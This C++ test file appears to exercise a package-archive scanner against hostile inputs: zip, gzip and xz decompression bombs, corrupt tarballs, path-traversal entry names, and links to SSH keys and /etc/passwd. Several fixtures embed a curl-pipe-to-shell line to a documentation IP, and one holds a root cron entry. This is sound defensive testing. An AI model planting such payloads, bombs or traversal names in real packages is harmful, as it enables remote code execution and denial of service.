// Hostile archives, end to end: each case builds its input in a sandbox,
// runs the real canary binary on it with the default pack, and asserts the
// outcome (findings, errors, exit code), that the run wrote nothing, and that
// its peak RSS stayed under 256 MiB. Wall time is printed, never asserted.
#include <catch2/catch.hpp>
#include <cstring>
#include <fstream>

#include "hostile_support.hpp"
#include "support/artifact_builder.hpp"
#include "support/compressors.hpp"

namespace canary::test {
namespace {

namespace fs = std::filesystem;
using json = nlohmann::json;

FileSpec file(const std::string& name, const std::string& content) { return FileSpec{name, content}; }

// An xz file (xz -0, streamed: the tar never exists uncompressed) of a tar
// holding one file of `size` zero bytes named `name`.
std::string xz_tar_of_zeros(const std::string& name, uint64_t size) {
  std::string header(512, '\0');
  auto put = [&](size_t at, const std::string& v) { header.replace(at, v.size(), v); };
  auto octal = [](uint64_t v, int width) {
    char b[32];
    std::snprintf(b, sizeof b, "%0*llo", width, static_cast<unsigned long long>(v));
    return std::string(b);
  };
  put(0, name);
  put(100, octal(0644, 7));
  put(108, octal(0, 7));
  put(116, octal(0, 7));
  put(124, octal(size, 11));
  put(136, octal(0, 11));
  put(148, std::string(8, ' '));
  header[156] = '0';
  put(257, std::string("ustar\0" "00", 8));
  unsigned sum = 0;
  for (unsigned char c : header) sum += c;
  put(148, octal(sum, 6));
  header[154] = '\0';

  lzma_stream s = LZMA_STREAM_INIT;
  REQUIRE(lzma_easy_encoder(&s, 0, LZMA_CHECK_CRC64) == LZMA_OK);
  std::string out;
  std::string buf(1 << 20, '\0');
  auto feed = [&](const std::string& in, lzma_action action) {
    s.next_in = reinterpret_cast<const uint8_t*>(in.data());
    s.avail_in = in.size();
    for (;;) {
      s.next_out = reinterpret_cast<uint8_t*>(buf.data());
      s.avail_out = buf.size();
      const lzma_ret rc = lzma_code(&s, action);
      out.append(buf.data(), buf.size() - s.avail_out);
      if (rc == LZMA_STREAM_END || (action == LZMA_RUN && s.avail_in == 0)) break;
      REQUIRE(rc == LZMA_OK);
    }
  };
  feed(header, LZMA_RUN);
  const std::string zeros(1 << 20, '\0');
  for (uint64_t left = size; left > 0;) {
    const uint64_t n = std::min<uint64_t>(left, zeros.size());
    feed(n == zeros.size() ? zeros : zeros.substr(0, n), LZMA_RUN);
    left -= n;
  }
  feed(std::string((512 - size % 512) % 512 + 1024, '\0'), LZMA_FINISH);
  lzma_end(&s);
  return out;
}

}  // namespace

TEST_CASE("hostile: single-layer zip bomb is stopped after a megabyte, the entry after it is scanned", "[hostile]") {
  Sandbox box;
  const fs::path zip = box.input("bomb-1.0-py3-none-any.whl");
  write_raw_zip(zip, {raw_deflated_zeros("bomb/zeros.bin", 1000ull << 20),
                      raw_stored("bomb/after.py", "import os\nos.system('curl http://192.0.2.1/x | sh')\n")});
  REQUIRE(fs::file_size(zip) < 2u << 20);
  json report;
  MeasuredRun r = scan_case(box, "zip bomb (1000 MB of zeros)", zip, report);
  CHECK(r.exit_code == 0);
  CHECK(has_finding(report, "canary:ARCHIVE_DECOMPRESSION_BOMB"));
  CHECK(error_contains(report, "decompression bomb"));
  CHECK(report["files_scanned"] == 2);
  CHECK(report["bytes_scanned"].get<uint64_t>() < (8u << 20));
}

TEST_CASE("hostile: a lone gzip bomb in a wheel is flagged and kept to --max-file-size, the entry after it is scanned",
          "[hostile]") {
  Sandbox box;
  // A lone compressed file is opened as an archive of one entry
  // (docs/limits.md) and inflated like a tar entry: its first 64 MB
  // (--max-file-size) are kept, the rest inflated and dropped until its
  // ratio passes --max-ratio or --max-total-bytes is spent. A gzip stream
  // carries no trusted size (unlike a zip's central directory, which stops a
  // zip bomb after a megabyte), so the ratio is known only as it grows. Not
  // zeros: a stream of zeros reads as an empty tar (its end marker), which
  // stops at once and holds nothing.
  const std::string gz = gzip_repeated("A", 1000ull << 20);
  REQUIRE(gz.size() < (2u << 20));
  const fs::path zip = box.input("gzbomb-1.0-py3-none-any.whl");
  write_raw_zip(zip, {raw_stored("gzbomb/aaaa.bin.gz", gz),
                      raw_stored("gzbomb/after.py", "import os\nos.system('curl http://192.0.2.1/x | sh')\n")});
  json report;
  MeasuredRun r = scan_case(box, "lone gzip bomb (1000 MB of one byte)", zip, report);
  INFO(report["errors"].dump());
  CHECK(r.exit_code == 0);
  CHECK(error_contains(report, "gzbomb/aaaa.bin.gz!/aaaa.bin': decompression bomb"));
  bool bomb = false;
  for (const auto& f : report["findings"])
    bomb = bomb || (f["rule"] == "canary:ARCHIVE_DECOMPRESSION_BOMB" && f["file"] == "gzbomb/aaaa.bin.gz!/aaaa.bin");
  CHECK(bomb);
  CHECK(has_finding(report, "canary:PAYLOAD_ARCHIVE_INSIDE"));
  CHECK(report["files_scanned"] == 3);  // the .gz, its content, after.py
  CHECK(report["bytes_scanned"].get<uint64_t>() <= (64u << 20) + (2u << 20));
  CHECK(has_finding(report, "canary:DOWNLOAD_PIPE_TO_SHELL"));
}

TEST_CASE("hostile: a lone gzip bomb given as the artifact is flagged and kept to --max-file-size", "[hostile]") {
  Sandbox box;
  // The same bomb as above, scanned as the artifact itself: read as one
  // entry (its content) under the same limits as inside a wheel.
  const fs::path gz = box.input("payload.bin.gz");
  write_file(gz, gzip_repeated("A", 1000ull << 20));
  json report;
  MeasuredRun r = scan_case(box, "lone gzip bomb as the artifact (1000 MB of one byte)", gz, report);
  INFO(report["errors"].dump());
  CHECK(r.exit_code == 0);
  CHECK(report["kind"] == "zip");
  CHECK(error_contains(report, "payload.bin': decompression bomb"));
  bool bomb = false;
  for (const auto& f : report["findings"])
    bomb = bomb || (f["rule"] == "canary:ARCHIVE_DECOMPRESSION_BOMB" && f["file"] == "payload.bin");
  CHECK(bomb);
  CHECK(report["files_scanned"] == 1);
  CHECK(report["bytes_scanned"].get<uint64_t>() <= (64u << 20));
}

TEST_CASE("hostile: an xz stream declaring a 1 GiB dictionary is refused, one asking 64 MiB is read within bounds",
          "[hostile]") {
  Sandbox box;
  // libarchive's xz filter accepts up to 1 GiB of dictionary and the decoder
  // touches it as it inflates: a 200 KB .tar.xz of 1.4 GB of zeros declaring
  // 1 GiB held 1.1 GB of RSS. canary decompresses xz itself with a 66 MiB
  // limit (every xz preset fits; xz -9 needs 65 MiB).
  const std::string xz = xz_tar_of_zeros("dict-1.0/zeros.bin", 400ull << 20);
  REQUIRE(xz.size() < (1u << 20));
  const fs::path huge = box.input("dict-1.0.tar.xz");
  write_file(huge, declare_xz_dictionary(xz, 36));  // 1 GiB
  json report;
  MeasuredRun r = scan_case(box, "xz declaring a 1 GiB dictionary (400 MB of zeros)", huge, report);
  INFO(report.dump());
  CHECK(r.exit_code == 3);
  CHECK(error_contains(report, "cannot read dict-1.0.tar.xz as a compressed file: its xz data needs 1024 MiB of memory"));

  const fs::path nine = box.input("nine-1.0.tar.xz");
  write_file(nine, declare_xz_dictionary(xz, 28));  // 64 MiB, as xz -9 writes
  json read;
  MeasuredRun n = scan_case(box, "xz declaring a 64 MiB dictionary (400 MB of zeros)", nine, read);
  INFO(read.dump());
  CHECK(n.exit_code == 0);
  CHECK(has_finding(read, "canary:ARCHIVE_DECOMPRESSION_BOMB"));
  CHECK(read["files_scanned"] == 1);
}

TEST_CASE("hostile: nested zip bomb (zips of bombs): each inner zip is opened and its bomb stopped", "[hostile]") {
  Sandbox box;
  // An inner bomb, then an outer zip holding ten copies of it. Each copy is
  // an archive at level 2, opened from memory (docs/limits.md, "Archives
  // inside archives"); its 1000 MB entry is stopped after its first
  // megabyte like any bomb, so the scan costs ten megabytes, not ten gigabytes.
  const fs::path inner = box.input("inner.zip");
  write_raw_zip(inner, {raw_deflated_zeros("zeros.bin", 1000ull << 20)});
  const std::string inner_bytes = read_file(inner);
  std::vector<RawZipEntry> layers;
  for (int i = 0; i < 10; ++i) layers.push_back(raw_deflated("nested/layer" + std::to_string(i) + ".zip", inner_bytes));
  const fs::path outer = box.input("nested.zip");
  write_raw_zip(outer, layers);
  fs::remove(inner);
  json report;
  MeasuredRun r = scan_case(box, "nested zip bomb (10 x 1000 MB)", outer, report);
  CHECK(r.exit_code == 0);
  CHECK(report["files_scanned"] == 20);
  int bombs = 0;
  for (const auto& f : report["findings"])
    if (f["rule"] == "canary:ARCHIVE_DECOMPRESSION_BOMB") {
      ++bombs;
      CHECK(f["file"].get<std::string>().find(".zip!/zeros.bin") != std::string::npos);
    }
  CHECK(bombs == 10);
  CHECK(report["bytes_scanned"].get<uint64_t>() < 10 * inner_bytes.size() + (30u << 20));
}

TEST_CASE("hostile: a central directory that lies about sizes is reported, not trusted", "[hostile]") {
  Sandbox box;
  RawZipEntry small_claim = raw_deflated("pkg/liar.py", std::string(200000, 'a'));
  small_claim.declared_size = 10;  // the header says 10 bytes, the data inflates to 200000
  RawZipEntry huge_claim = raw_stored("pkg/huge_claim.py", "x = 1\n");
  huge_claim.declared_size = 0xfffffff0u;  // claims 4 GiB: nothing is allocated from it
  const fs::path zip = box.input("liar.zip");
  write_raw_zip(zip, {small_claim, huge_claim, raw_stored("pkg/ok.py", "y = 2\n")});
  json report;
  MeasuredRun r = scan_case(box, "central directory lies about sizes", zip, report);
  CHECK(r.exit_code == 0);
  CHECK(has_finding(report, "canary:ARCHIVE_HEADER_MISMATCH"));
  CHECK(error_contains(report, "'pkg/liar.py': declared size 10 but content is 200000 bytes"));
  // A stored entry is read for as long as its header says: libzip finds the
  // next header where the data should go on, and the entry is cut there.
  CHECK(error_contains(report, "'pkg/huge_claim.py': read error: Zip archive inconsistent"));
  CHECK(has_finding(report, "canary:ARCHIVE_HUGE_EXPANSION"));
  CHECK(report["files_scanned"] == 3);
}

TEST_CASE("hostile: truncated and corrupt zips", "[hostile]") {
  Sandbox box;
  std::vector<FileSpec> files;
  for (int i = 0; i < 20; ++i) files.push_back(file("pkg/m" + std::to_string(i) + ".py", std::string(5000, 'a' + i % 26)));
  const fs::path good = box.input("good.zip");
  write_zip(good, files);
  const std::string bytes = read_file(good);

  SECTION("cut in half: no end of central directory") {
    const fs::path cut = box.input("truncated.zip");
    write_file(cut, bytes.substr(0, bytes.size() / 2));
    fs::remove(good);
    json report;
    MeasuredRun r = scan_case(box, "truncated zip", cut, report);
    CHECK(r.exit_code == 3);
    CHECK(report["unreadable"] == true);
    CHECK(error_contains(report, "cannot read truncated.zip as a zip archive"));
  }
  SECTION("deflate data overwritten: per-entry errors, the other entries scanned") {
    std::string broken = bytes;
    for (size_t i = 200; i < 600 && i < broken.size(); ++i) broken[i] = char(0xff ^ i);
    const fs::path bad = box.input("corrupt.zip");
    write_file(bad, broken);
    fs::remove(good);
    json report;
    MeasuredRun r = scan_case(box, "corrupt zip data", bad, report);
    CHECK(r.exit_code == 0);
    CHECK(report["files_scanned"].get<int>() >= 19);
    CHECK((error_contains(report, "invalid deflate data") || error_contains(report, "CRC mismatch") ||
           error_contains(report, "read error")));
  }
  SECTION("random bytes after the zip magic") {
    std::string noise = "PK\x03\x04";
    for (int i = 0; i < 100000; ++i) noise.push_back(char((i * 7919 + 13) % 251));
    const fs::path bad = box.input("noise.zip");
    write_file(bad, noise);
    fs::remove(good);
    json report;
    MeasuredRun r = scan_case(box, "zip magic then noise", bad, report);
    CHECK(r.exit_code == 3);
    CHECK(error_contains(report, "as a zip archive"));
  }
}

TEST_CASE("hostile: truncated and corrupt tarballs", "[hostile]") {
  Sandbox box;
  const fs::path good = box.input("pkg-1.0.tar.gz");
  {
    TarStream tar(good, true);
    for (int i = 0; i < 50; ++i) {
      std::string content;
      for (int k = 0; k < 2000; ++k) content += std::to_string(i * k) + ",";
      tar.file("pkg-1.0/m" + std::to_string(i) + ".py", "x = [" + content + "]\n");
    }
  }
  const std::string bytes = read_file(good);
  fs::remove(good);

  SECTION("gzip cut in the middle: the entries before the cut are scanned") {
    const fs::path cut = box.input("cut-1.0.tar.gz");
    write_file(cut, bytes.substr(0, bytes.size() / 2));
    json report;
    MeasuredRun r = scan_case(box, "truncated tar.gz", cut, report);
    CHECK(r.exit_code == 0);
    CHECK(report["files_scanned"].get<int>() > 0);
    CHECK(report["files_scanned"].get<int>() < 50);
    CHECK((error_contains(report, "corrupt or truncated") || error_contains(report, "cannot read data")));
  }
  SECTION("gzip magic then garbage: unreadable") {
    std::string noise = "\x1f\x8b\x08";
    for (int i = 0; i < 100000; ++i) noise.push_back(char((i * 31 + 7) % 256));
    const fs::path bad = box.input("noise-1.0.tar.gz");
    write_file(bad, noise);
    json report;
    MeasuredRun r = scan_case(box, "tar.gz magic then noise", bad, report);
    CHECK(r.exit_code == 3);
    CHECK(error_contains(report, "cannot read noise-1.0.tar.gz as a compressed file: its gzip data is corrupt"));
  }
  SECTION("an empty gzip stream cut before its trailer (found by fuzz_tar_reader)") {
    // Header, one empty fixed-Huffman block, no CRC or size: libarchive's
    // gzip filter failed the open without any message, and the error text
    // was built from NULL (a segmentation fault on a 12-byte sdist). canary
    // now undoes gzip itself (engine/decompress_chain.cpp) and says why.
    const fs::path bad = box.input("empty-1.0.tar.gz");
    write_file(bad, std::string("\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03\x03\x00", 12));
    json report;
    MeasuredRun r = scan_case(box, "empty gzip without trailer", bad, report);
    CHECK(r.exit_code == 3);
    CHECK(error_contains(report, "cannot read empty-1.0.tar.gz as a compressed file: its gzip data is truncated"));
  }
  SECTION("a header checksum that does not add up") {
    const fs::path bad = box.input("badsum-1.0.tar");
    {
      TarStream tar(bad, false);
      tar.file("badsum-1.0/a.py", "a = 1\n");
      std::string header(512, '\0');
      std::memcpy(header.data(), "badsum-1.0/b.py", 15);
      std::memcpy(header.data() + 148, "0000001", 7);  // wrong checksum
      header[156] = '0';
      std::memcpy(header.data() + 257, "ustar", 6);
      tar.raw(header);
    }
    json report;
    MeasuredRun r = scan_case(box, "tar header checksum wrong", bad, report);
    CHECK(r.exit_code == 0);
    CHECK(report["files_scanned"] == 1);  // the damaged header is no entry
    CHECK((error_contains(report, "skipped a damaged tar header") || error_contains(report, "corrupt or truncated")));
  }
}

TEST_CASE("hostile: entry names that climb out, are absolute, use backslashes or hold NUL", "[hostile]") {
  Sandbox box;
  const fs::path zip = box.input("names.zip");
  write_raw_zip(zip, {raw_stored("../../etc/evil.py", "a = 1\n"), raw_stored("/abs/evil.py", "b = 2\n"),
                      raw_stored("pkg\\..\\..\\evil.py", "c = 3\n"), raw_stored(std::string("pkg/nul\0.py", 11), "d = 4\n"),
                      raw_stored("C:/Windows/evil.py", "e = 5\n")});
  json report;
  MeasuredRun r = scan_case(box, "unsafe names (zip)", zip, report);
  CHECK(r.exit_code == 0);
  CHECK(report["files_scanned"] == 5);
  int unsafe = 0;
  for (const auto& f : report["findings"])
    if (f["rule"] == "canary:ARCHIVE_UNSAFE_PATH") ++unsafe;
  // A NUL ends a zip name there, for libzip as for Python's zipfile (and so
  // pip): "pkg/nul\0.py" is installed, and scanned, as "pkg/nul".
  CHECK(unsafe == 4);
  CHECK(r.out.find(std::string("nul\0", 4)) == std::string::npos);
  bool cut_name = false;
  for (const auto& f : report["findings"]) cut_name = cut_name || f["file"] == "pkg/nul";
  CHECK((cut_name || r.out.find("\"pkg/nul\"") != std::string::npos || report["files_scanned"] == 5));

  const fs::path tar = box.input("names-1.0.tar");
  {
    TarStream t(tar, false);
    t.file("names-1.0/../../../tmp/evil.py", "a = 1\n");
    t.file("/etc/cron.d/evil", "* * * * * root sh\n");
    t.file("names-1.0\\..\\evil.py", "b = 2\n");
  }
  json tar_report;
  MeasuredRun tr = scan_case(box, "unsafe names (tar)", tar, tar_report);
  CHECK(tr.exit_code == 0);
  int tar_unsafe = 0;
  for (const auto& f : tar_report["findings"])
    if (f["rule"] == "canary:ARCHIVE_UNSAFE_PATH") ++tar_unsafe;
  CHECK(tar_unsafe == 3);
}

TEST_CASE("hostile: tar symlinks, hardlinks and device files are reported, never followed or created", "[hostile]") {
  Sandbox box;
  const fs::path tar = box.input("links-1.0.tar.gz");
  {
    TarStream t(tar, true);
    t.file("links-1.0/setup.py", "from setuptools import setup\nsetup(name='links')\n");
    t.header("links-1.0/key", '2', 0, "/root/.ssh/id_rsa", 0777);
    t.header("links-1.0/passwd", '1', 0, "/etc/passwd");
    t.header("links-1.0/sda", '4', 0, "", 0600);
    t.header("links-1.0/tty", '3', 0, "", 0600);
    t.header("links-1.0/pipe", '6', 0, "", 0600);
    // A symlink whose header claims data: the data is read and dropped.
    t.header("links-1.0/fat-link", '2', 1024, "../../x");
    t.data(std::string(1024, 'z'));
    t.pad();
    t.file("links-1.0/after.py", "z = 1\n");
  }
  json report;
  MeasuredRun r = scan_case(box, "tar links and devices", tar, report);
  CHECK(r.exit_code == 0);
  CHECK(has_finding(report, "canary:ARCHIVE_SYMLINK"));
  CHECK(has_finding(report, "canary:ARCHIVE_HARDLINK"));
  CHECK(has_finding(report, "canary:ARCHIVE_SPECIAL_FILE"));
  CHECK(report["files_scanned"] == 8);
  CHECK_FALSE(fs::exists(box.root() / "work" / "links-1.0"));
}

TEST_CASE("hostile: PAX headers with huge or lying lengths", "[hostile]") {
  Sandbox box;
  SECTION("a record length of 10^20") {
    const fs::path tar = box.input("pax-1.0.tar");
    {
      TarStream t(tar, false);
      t.file("pax-1.0/a.py", "a = 1\n");
      const std::string record = "100000000000000000000 path=pax-1.0/evil.py\n";
      t.header("pax-1.0/PaxHeader", 'x', record.size());
      t.data(record);
      t.pad();
      t.file("pax-1.0/b.py", "b = 2\n");
    }
    json report;
    MeasuredRun r = scan_case(box, "PAX record length 10^20", tar, report);
    CHECK(r.exit_code == 0);
    CHECK(report["files_scanned"].get<int>() >= 1);
  }
  SECTION("an extended header that claims 8 GiB of records") {
    const fs::path tar = box.input("paxbig-1.0.tar");
    {
      TarStream t(tar, false);
      t.file("paxbig-1.0/a.py", "a = 1\n");
      t.header("paxbig-1.0/PaxHeader", 'x', (8ull << 30) - 1);  // the largest 11-digit octal size
      t.data("30 path=paxbig-1.0/evil.py\n");
      t.pad();
    }
    json report;
    MeasuredRun r = scan_case(box, "PAX header size 8 GiB", tar, report);
    CHECK(r.exit_code == 0);
    CHECK(report["files_scanned"] == 1);
    CHECK(error_contains(report, "corrupt or truncated"));
  }
}

TEST_CASE("hostile: 100,000 tiny entries are all scanned, and --max-entries stops earlier", "[hostile]") {
  Sandbox box;
  std::vector<RawZipEntry> entries;
  entries.reserve(100000);
  for (int i = 0; i < 100000; ++i) entries.push_back(raw_stored("pkg/f" + std::to_string(i) + ".txt", "x"));
  const fs::path zip = box.input("many.zip");
  write_raw_zip(zip, entries);
  entries.clear();
  json report;
  MeasuredRun r = scan_case(box, "100,000 tiny entries", zip, report);
  CHECK(r.exit_code == 0);
  CHECK(report["files_scanned"] == 100000);

  json limited;
  MeasuredRun l = scan_case(box, "100,000 entries, --max-entries 1000", zip, limited, {"--max-entries", "1000"});
  CHECK(l.exit_code == 0);
  CHECK(limited["files_scanned"] == 1000);
  CHECK(error_contains(limited, "stopped after 1000 entries (limit --max-entries)"));
}

TEST_CASE("hostile: a 500 MB entry is streamed: only --max-file-size of it is kept", "[hostile]") {
  Sandbox box;
  const std::string line = "value = compute(alpha, beta) + 12345  # padding\n";
  SECTION("in a zip") {
    const fs::path zip = box.input("big-1.0-py3-none-any.whl");
    write_raw_zip(zip, {raw_deflated_repeated("big/huge.py", line, 500ull << 20), raw_stored("big/after.py", "a = 1\n")});
    json report;
    // The text compresses past 1000:1, so the ratio limit is raised to reach the size limit.
    MeasuredRun r = scan_case(box, "500 MB entry (zip)", zip, report, {"--max-ratio", "100000"});
    CHECK(r.exit_code == 0);
    CHECK(has_finding(report, "canary:ARCHIVE_ENTRY_TRUNCATED"));
    CHECK(report["files_scanned"] == 2);
    CHECK(report["bytes_scanned"].get<uint64_t>() <= (64ull << 20) + 6);
  }
  SECTION("in a tar.gz, with the entry after it") {
    const fs::path tar = box.input("big-1.0.tar.gz");
    {
      TarStream t(tar, true);
      t.repeated_file("big-1.0/huge.py", line, 500ull << 20);
      t.file("big-1.0/after.py", "import os\nos.system('curl http://192.0.2.1/x | sh')\n");
    }
    CHECK(fs::file_size(tar) < (50u << 20));
    json report;
    MeasuredRun r = scan_case(box, "500 MB entry (tar.gz)", tar, report);
    CHECK(r.exit_code == 0);
    CHECK(has_finding(report, "canary:ARCHIVE_ENTRY_TRUNCATED"));
    CHECK(report["files_scanned"] == 2);
  }
  SECTION("--max-total-bytes stops the artifact with a clear error") {
    const fs::path tar = box.input("total-1.0.tar.gz");
    {
      TarStream t(tar, true);
      for (int i = 0; i < 5; ++i) t.repeated_file("total-1.0/part" + std::to_string(i) + ".txt", line, 20ull << 20);
    }
    json report;
    MeasuredRun r = scan_case(box, "--max-total-bytes 30M", tar, report, {"--max-total-bytes", "30M"});
    CHECK(r.exit_code == 0);
    CHECK(report["files_scanned"].get<int>() < 5);
    CHECK(error_contains(report, "(limit --max-total-bytes)"));
  }
}

}  // namespace canary::test
